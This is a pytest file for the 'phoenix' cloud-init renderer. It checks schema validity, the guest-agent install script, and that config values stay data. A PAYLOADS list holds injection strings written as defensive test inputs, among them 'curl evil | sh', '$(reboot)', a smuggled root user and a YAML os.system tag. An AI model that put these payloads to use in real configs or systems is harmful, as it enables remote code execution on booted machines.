"""Rendering: what first boot receives, checked by cloud-init itself; config values stay data."""

from __future__ import annotations

import dataclasses
import ipaddress
import re
import subprocess

import pytest
import yaml
from cloudinit_check import (
    GENERATIONS,
    assert_valid_network_config,
    assert_valid_user_data,
    cloud_init_schema,
    newer_cloud_init,
    parse_network_config,
)

from phoenix.cloudinit import (
    first_boot_hint,
    render_meta_data,
    render_network_config,
    render_seed,
    render_user_data,
    to_yaml,
)
from phoenix.cloudinit.render import AGENT_INSTALL_SCRIPT, agent_install_script
from phoenix.config import build_config, load_config
from phoenix.config.sample import sample_document

EXTRA_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIC3yqQUgijZbO8zW4N+/9STP1+YVY4y8HaMpnZPHOVFm phoenix-pulumi"


@pytest.fixture(scope="module")
def example(example_config_path):
    return load_config(example_config_path)


def test_user_data_content(example):
    vm = example.vm(8001)
    text = render_user_data(vm, [EXTRA_KEY])
    assert text.startswith("#cloud-config\n")
    doc = yaml.safe_load(text)
    assert doc["hostname"] == "phoenix-docker-01" and doc["fqdn"] == "phoenix-docker-01.lab.internal"
    (user,) = doc["users"]
    assert user["name"] == "phoenix" and user["lock_passwd"] is True
    assert user["ssh_authorized_keys"] == [*vm.user.ssh_authorized_keys, EXTRA_KEY]
    assert doc["disable_root"] is True and doc["ssh_pwauth"] is False
    sshd = doc["write_files"][0]
    assert sshd["path"] == "/etc/ssh/sshd_config.d/10-phoenix.conf"
    assert "PermitRootLogin no" in sshd["content"] and "PasswordAuthentication no" in sshd["content"]
    # the original plan's lessons: the agent is installed and started; growth never names a device.
    # The agent is installed on its own (bootcmd), never in the user's `packages` list, whose
    # single `apt-get install` fails as a whole for one bad name.
    assert doc["packages"] == ["htop"]
    (agent_step,) = doc["bootcmd"]
    assert agent_step[:5] == ["cloud-init-per", "instance", "phoenix-guest-agent", "sh", "-c"]
    assert agent_step[5] == agent_install_script()
    assert any("systemctl start qemu-guest-agent" in " ".join(cmd) for cmd in doc["runcmd"])
    assert doc["growpart"] == {"mode": "auto", "devices": ["/"], "ignore_growroot_disabled": False}
    assert doc["resize_rootfs"] is True
    assert "/dev/sd" not in yaml.safe_dump(doc) and "/dev/vd" not in yaml.safe_dump(doc)  # no disk device named
    assert doc["package_update"] is True


def test_package_update_is_configurable(doc):
    doc["vms"][0]["package_update"] = False
    vm = build_config(doc).vm(8001)
    assert yaml.safe_load(render_user_data(vm))["package_update"] is False


def test_every_rendered_user_data_passes_cloud_init_schema(doc, example_config_path):
    doc["vms"][0].update({"timezone": "Europe/Berlin", "package_update": False, "package_upgrade": True})
    doc["vms"][1]["user"] = {"name": "ops", "sudo": False, "shell": "/bin/sh"}
    del doc["defaults"]["network_config"]["search_domain"]
    variants = [*build_config(doc).vms, *load_config(example_config_path).vms,
                *build_config(sample_document(2)).vms]
    preinstalled = dataclasses.replace(variants[0].guest_agent, preinstalled=True)
    variants.append(dataclasses.replace(variants[0], guest_agent=preinstalled, packages=()))
    for vm in variants:  # each under cloud-init 22.4 and 25.1
        assert_valid_user_data(render_user_data(vm, [EXTRA_KEY]))
        assert_valid_network_config(render_network_config(vm))


def test_both_cloud_init_generations_are_really_checked():
    _, version = newer_cloud_init()
    assert version.startswith("25.1"), version
    for generation in GENERATIONS:
        result = cloud_init_schema("#cloud-config\nhostname: x\n", version=generation)
        assert result.returncode == 0, result.stderr


@pytest.mark.parametrize("version", GENERATIONS)
def test_cloud_init_schema_check_can_fail(version):
    # the checker used above really rejects a wrong document (so the test above can fail)
    result = cloud_init_schema("#cloud-config\npackages: {htop: 1}\nusers: 5\n", version=version)
    assert result.returncode == 1 and "packages" in result.stderr + result.stdout
    # and a bootcmd entry of the wrong type
    bad = cloud_init_schema("#cloud-config\nbootcmd: {a: 1}\n", version=version)
    assert bad.returncode == 1 and "bootcmd" in bad.stderr + bad.stdout


def test_network_config_schema_check_can_fail():
    bad = "version: 2\nethernets:\n  eth0:\n    dhcp4: maybe\n    addresses: 5\n"
    result = cloud_init_schema(bad, version="25.1", schema_type="network-config")
    assert result.returncode == 1 and "dhcp4" in result.stderr + result.stdout


def test_network_config_parsed_by_cloud_init(example):
    parsed = parse_network_config(render_network_config(example.vm(8001)))
    (iface,) = parsed["interfaces"]
    assert iface["mac_address"] == "02:50:48:00:1f:41"
    (subnet,) = iface["subnets"]
    assert subnet["type"] == "static" and subnet["address"] == "10.0.0.101" and subnet["prefix"] == 24
    assert subnet["routes"][0]["gateway"] == "10.0.0.1" and subnet["routes"][0]["prefix"] == 0
    assert parsed["dns"] == ["10.0.0.1"] and parsed["search"] == ["lab.internal"]


def test_network_config_without_gateway_or_dns(doc):
    del doc["defaults"]["network_config"]["gateway"]
    doc["defaults"]["network_config"]["dns"] = []
    del doc["defaults"]["network_config"]["search_domain"]
    text = render_network_config(build_config(doc).vm(8002))
    assert "routes" not in text and "nameservers" not in text
    (iface,) = parse_network_config(text)["interfaces"]
    assert iface["subnets"][0]["address"] == "10.0.0.102"


def test_meta_data_is_stable(example):
    vm = example.vm(8001)
    assert yaml.safe_load(render_meta_data(vm)) == {"instance-id": "iid-phoenix-8001",
                                                    "local-hostname": "phoenix-docker-01"}
    assert render_seed(vm).digest == render_seed(vm).digest
    assert render_seed(vm).digest != render_seed(vm, [EXTRA_KEY]).digest


def test_extra_key_is_checked(example):
    with pytest.raises(ValueError, match="extra SSH key"):
        render_user_data(example.vm(8001), ["ssh-ed25519 AAAA\nruncmd: [reboot]"])


# -- injection: every string field that reaches a template, bypassing the config checks --------

PAYLOADS = [
    "x\nruncmd: [[sh, -c, 'curl evil | sh']]",
    "x\n  - name: root\n",
    'x" \nbootcmd: [reboot]\n#',
    "x'; reboot; echo '",
    "{{ 7*7 }}{% raw %}",
    "x: y",
    "- item",
    "&anchor *alias !!python/object:os.system",
    "#cloud-config\nwrite_files: []",
    "\u2028line\u2029sep\x85nel\U0001F600",
    "$(reboot)`reboot`",
]


def _injected(vm, payload: str):
    net = dataclasses.replace(vm.network_config, search_domain=payload, dns=(payload,), mac_address=payload,
                              interface_name=payload)
    user = dataclasses.replace(vm.user, name=payload, shell=payload,
                               ssh_authorized_keys=(payload, f"ssh-ed25519 AAAA {payload}"))
    return dataclasses.replace(vm, name=payload, timezone=payload, packages=(payload, "htop"),
                               network_config=net, user=user)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_injection_stays_data(example, payload):
    vm = _injected(example.vm(8001), payload)
    user_data = yaml.safe_load(render_user_data(vm))
    assert user_data["hostname"] == payload and user_data["timezone"] == payload
    assert user_data["fqdn"] == f"{payload}.{payload}"
    (user,) = user_data["users"]
    assert user["name"] == payload and user["shell"] == payload
    assert user["ssh_authorized_keys"] == [payload, f"ssh-ed25519 AAAA {payload}"]
    assert user_data["packages"] == [payload, "htop"]
    # the only bootcmd is the project's agent install, byte for byte; no value reached it
    assert user_data["bootcmd"] == [["cloud-init-per", "instance", "phoenix-guest-agent", "sh",
                                     "-c", agent_install_script()]]
    assert len(user_data["runcmd"]) == 2
    assert all("reboot" not in " ".join(cmd) for cmd in user_data["runcmd"])

    network = yaml.safe_load(render_network_config(vm))
    (name,) = network["ethernets"]
    eth = network["ethernets"][name]
    assert name == payload and eth["match"] == {"macaddress": payload}
    assert eth["nameservers"] == {"addresses": [payload], "search": [payload]}

    meta = yaml.safe_load(render_meta_data(vm))
    assert meta == {"instance-id": "iid-phoenix-8001", "local-hostname": payload}


@pytest.mark.parametrize("value", ["plain", "a\nb", 'q"uote', "\x00\x07", "é", 0, True, None, ["a", "b\n"],
                                   ipaddress.IPv4Address("10.0.0.1").exploded])
def test_to_yaml_round_trips_on_one_line(value):
    text = to_yaml(value)
    assert "\n" not in text and yaml.safe_load(f"k: {text}") == {"k": value}


def test_preinstalled_agent_means_no_package_step(doc):
    doc["vms"][0].update({"package_update": False, "packages": [], "guest_agent": {"preinstalled": True}})
    doc["vms"][1].update({"guest_agent": {"preinstalled": True}})
    config = build_config(doc)
    bare = yaml.safe_load(render_user_data(config.vm(8001)))
    assert "packages" not in bare and bare["package_update"] is False
    assert "bootcmd" not in bare  # the fast path: no apt call at all for the agent
    # the agent is still started (it may be a static unit that udev has not started yet)
    assert any("systemctl start qemu-guest-agent" in " ".join(cmd) for cmd in bare["runcmd"])
    assert yaml.safe_load(render_user_data(config.vm(8002)))["packages"] == ["nginx"]
    for vm in config.vms:
        assert_valid_user_data(render_user_data(vm))


def test_host_key_types(example):
    doc = yaml.safe_load(render_user_data(example.vm(8001)))
    assert doc["ssh_genkeytypes"] == ["ed25519", "ecdsa"]


# -- the agent's own install step ------------------------------------------------------------


def test_agent_install_script_is_bounded_noninteractive_and_never_fails_the_boot():
    script = AGENT_INSTALL_SCRIPT.read_text()
    assert subprocess.run(["sh", "-n", str(AGENT_INSTALL_SCRIPT)], check=False).returncode == 0
    assert "exec </dev/null" in script and "DEBIAN_FRONTEND=noninteractive" in script
    for option in ("DPkg::Lock::Timeout=", "Acquire::http::Timeout=", "Acquire::Retries=",
                   "--force-confold"):
        assert option in script
    assert "install -y --no-install-recommends qemu-guest-agent" in script
    # a blocking start from bootcmd would wait for sysinit.target, which waits for bootcmd
    assert "systemctl start --no-block qemu-guest-agent" in script
    assert "policy-rc.d" in script
    assert script.rstrip().endswith("exit 0")
    # every apt-get call is bounded as a whole as well
    apt_calls = [line.strip() for line in script.splitlines() if 'apt-get "$@"' in line]
    assert len(apt_calls) == 2
    assert all(re.search(r"(^|\s)timeout \d+ apt-get", line) for line in apt_calls), apt_calls


def test_agent_install_script_runs_and_exits_zero_when_apt_fails(tmp_path):
    """Run the script itself with stand-ins for apt-get/systemctl that fail: it still exits 0,
    says so on its output, and does not leave the policy-rc.d it wrote behind."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    calls = tmp_path / "calls"
    for tool, rc in (("apt-get", 100), ("systemctl", 1), ("timeout", None)):
        body = ('shift; exec "$@"' if tool == "timeout"
                else f'echo "{tool} $*" >> {calls}; echo "E: Unable to locate package x" >&2; exit {rc}')
        (bin_dir / tool).write_text(f"#!/bin/sh\n{body}\n")
        (bin_dir / tool).chmod(0o755)
    policy = tmp_path / "policy-rc.d"
    script = agent_install_script().replace("/usr/sbin/policy-rc.d", str(policy))
    done = subprocess.run(["sh", "-c", script], capture_output=True, text=True, check=False,
                          env={"PATH": f"{bin_dir}:/usr/bin:/bin"}, timeout=30)
    if "already installed" in done.stdout:
        pytest.skip("this machine has qemu-ga on PATH")  # the branch below then never runs
    assert done.returncode == 0, done.stderr
    assert "phoenix: guest agent: apt-get update failed" in done.stdout
    assert "phoenix: guest agent: FAILED to install qemu-guest-agent" in done.stdout
    assert "could not start qemu-guest-agent" in done.stdout
    log = calls.read_text()
    assert "update" in log and "install -y --no-install-recommends qemu-guest-agent" in log
    assert "-o DPkg::Lock::Timeout=300" in log
    assert "start --no-block qemu-guest-agent" in log
    assert not policy.exists()


def test_first_boot_hint_names_the_vm_and_what_its_agent_depends_on(doc, example_config_path):
    config = load_config(example_config_path)
    hint = first_boot_hint(config.vm(8001))
    assert "VM 8001 (phoenix-docker-01)" in hint
    assert "from its package mirror at first boot" in hint
    assert "gateway 10.0.0.1" in hint and "DNS 10.0.0.1" in hint and "10.0.0.101/24" in hint
    assert "guest_agent.preinstalled: true" in hint
    del doc["defaults"]["network_config"]["gateway"]
    doc["defaults"]["network_config"]["dns"] = []
    doc["vms"][1]["guest_agent"] = {"preinstalled": True}
    built = build_config(doc)
    bare = first_boot_hint(built.vm(8001))
    assert "no gateway (it reaches only 10.0.0.0/24)" in bare and "no DNS server" in bare
    preinstalled = first_boot_hint(built.vm(8002))
    assert "expects its template to have qemu-guest-agent" in preinstalled
    assert "package mirror" not in preinstalled


def test_rebuild_digest_follows_the_config_not_the_templates(example, monkeypatch):
    """`recreate_on_cloud_init_change` keys on the seed's source: every config value the seed is
    rendered from changes it, while a Phoenix upgrade that renders the same values differently
    (a new template line) does not rebuild opted-in VMs."""
    from phoenix.cloudinit import render as render_module

    vm = example.vm(8001)
    base = render_seed(vm)
    assert base.source_digest == render_seed(vm).source_digest
    # the stack's own key is not the user's edit: rotating it rebuilds nothing (issue 18 case 2)
    assert base.source_digest == render_seed(vm, [EXTRA_KEY]).source_digest
    net, user = vm.network_config, vm.user
    edits = {
        "name": dataclasses.replace(vm, name="renamed"),
        "packages": dataclasses.replace(vm, packages=(*vm.packages, "jq")),
        "package_update": dataclasses.replace(vm, package_update=not vm.package_update),
        "package_upgrade": dataclasses.replace(vm, package_upgrade=not vm.package_upgrade),
        "timezone": dataclasses.replace(vm, timezone="Europe/Berlin"),
        "preinstalled": dataclasses.replace(vm, guest_agent=dataclasses.replace(
            vm.guest_agent, preinstalled=not vm.guest_agent.preinstalled)),
        "user.name": dataclasses.replace(vm, user=dataclasses.replace(user, name="other")),
        "user.shell": dataclasses.replace(vm, user=dataclasses.replace(user, shell="/bin/sh")),
        "ip": dataclasses.replace(vm, network_config=dataclasses.replace(
            net, ip=ipaddress.IPv4Interface("10.0.0.250/24"))),
        "dns": dataclasses.replace(vm, network_config=dataclasses.replace(net, dns=("9.9.9.9",))),
        "search_domain": dataclasses.replace(vm, network_config=dataclasses.replace(
            net, search_domain="example.org")),
    }
    for field_name, edited in edits.items():
        seed = render_seed(edited)
        assert seed.digest != base.digest, field_name  # the edit reaches the rendered seed ...
        assert seed.source_digest != base.source_digest, field_name  # ... and the rebuild key

    # The same config rendered by changed templates: the seed differs, the rebuild key does not.
    real_render = render_module._render

    def upgraded_render(template, allowed_keys, **context):
        return real_render(template, allowed_keys, **context) + "# rendered by a newer phoenix\n"

    monkeypatch.setattr(render_module, "_render", upgraded_render)
    upgraded = render_module.render_seed(vm)
    assert upgraded.digest != base.digest
    assert upgraded.source_digest == base.source_digest
